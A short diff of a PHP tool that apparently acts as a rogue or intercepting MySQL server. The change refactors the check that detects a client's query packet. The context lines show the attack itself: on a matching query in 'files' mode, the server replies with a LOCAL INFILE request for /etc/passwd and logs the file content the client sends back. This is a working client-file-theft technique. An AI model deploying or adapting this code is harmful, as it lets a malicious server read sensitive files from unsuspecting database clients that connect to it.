@@ -72,7 +72,8 @@ function serve($client, string $upstream, string $mode, string $log): never
             if ($one === $client) {
                 $from .= $bytes;
                 foreach (packets($from) as [$number, $payload]) {
-                    $isWanted = $number === 0 && $payload !== '' && ord($payload[0]) === 3 && preg_match($wanted, substr($payload, 1)) === 1;
+                    $isQuery = $number === 0 && $payload !== '' && ord($payload[0]) === 3;
+                    $isWanted = $isQuery && preg_match($wanted, substr($payload, 1)) === 1;
                     if ($isWanted && $mode === 'files') {
                         give($client, packet(1, "\xFB/etc/passwd"));
                         file_put_contents($log, (string) fread($client, 65_536), FILE_APPEND);
